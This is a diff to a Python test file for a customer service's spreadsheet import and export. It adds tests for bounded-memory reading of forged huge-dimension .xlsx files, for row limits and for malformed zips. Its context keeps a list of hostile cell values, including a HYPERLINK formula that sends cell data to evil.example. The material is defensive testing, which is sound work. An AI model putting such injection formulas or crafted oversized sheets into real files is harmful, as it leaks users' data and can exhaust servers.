@@ -1,13 +1,18 @@
 """Spreadsheet files in and out of the customers service: exports that do not run, imports that stay small."""
 import csv
 import io
+import re
+import tracemalloc
+import zipfile
 
 import pytest
-from openpyxl import load_workbook
+from openpyxl import Workbook, load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
+from kam.errors import Invalid
+from services.customers import spreadsheets
 from services.customers.domain.spreadsheet import CONTROL_CHARACTERS, safe_cell
-from services.customers.spreadsheets import write_rows
+from services.customers.spreadsheets import read_rows, write_rows
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+86 138 0000 0000", "-2+3", "@SUM(A1)",
            "\tcmd", "\rcmd"]
@@ -38,3 +43,58 @@ def test_the_csv_export_quotes_formulas_and_drops_control_characters():
 def test_the_control_characters_removed_are_those_xlsx_cannot_hold():
     for code in range(0x100):
         assert bool(CONTROL_CHARACTERS.match(chr(code))) == bool(ILLEGAL_CHARACTERS_RE.match(chr(code)))
+
+
+def _xlsx(rows, dimension=None, extra_rows=""):
+    workbook = Workbook()
+    for row in rows:
+        workbook.active.append(row)
+    plain = io.BytesIO()
+    workbook.save(plain)
+    out = io.BytesIO()
+    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                xml = data.decode()
+                if dimension:
+                    xml = re.sub(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{dimension}"/>', xml)
+                xml = xml.replace("</sheetData>", extra_rows + "</sheetData>")
+                data = xml.encode()
+            target.writestr(item, data)
+    return out.getvalue()
+
+
+def test_an_xlsx_that_declares_a_huge_dimension_is_read_lazily_in_bounded_memory():
+    far_cell = '<row r="3"><c r="A3" t="inlineStr"><is><t>王芳</t></is></c><c r="XFD3" t="inlineStr"><is><t>x</t></is></c></row>'
+    last_row = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
+    content = _xlsx([["姓名", "手机"], ["李华", "13800000000"]], dimension="A1:XFD1048576",
+                    extra_rows=far_cell + last_row)
+    assert len(content) < 10_000
+
+    tracemalloc.start()
+    try:
+        rows = read_rows("customers.xlsx", content)
+        _, peak = tracemalloc.get_traced_memory()
+    finally:
+        tracemalloc.stop()
+    assert rows == [["姓名", "手机"], ["李华", "13800000000"], ["王芳", None]]
+    assert peak < 5_000_000, f"reading a 3-row file took {peak} bytes at its peak"
+
+
+def test_empty_rows_keep_the_files_row_numbers_and_trailing_ones_are_dropped():
+    rows = read_rows("c.csv", "姓名,手机,,\n李华,1,extra,cells\n,\n王芳,2\n,,\n\n".encode())
+    assert rows == [["姓名", "手机"], ["李华", "1"], [], ["王芳", "2"]]
+
+
+def test_a_file_beyond_the_row_limit_is_refused(monkeypatch):
+    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 3)
+    assert len(read_rows("c.csv", "姓名\n甲\n乙\n".encode())) == 3
+    with pytest.raises(Invalid) as refused:
+        read_rows("c.xlsx", _xlsx([["姓名"], ["甲"], ["乙"], ["丙"]]))
+    assert "file" in refused.value.errors
+
+
+def test_an_unreadable_xlsx_is_invalid_not_a_server_error():
+    with pytest.raises(Invalid):
+        read_rows("c.xlsx", b"PK\x03\x04 not really a zip")
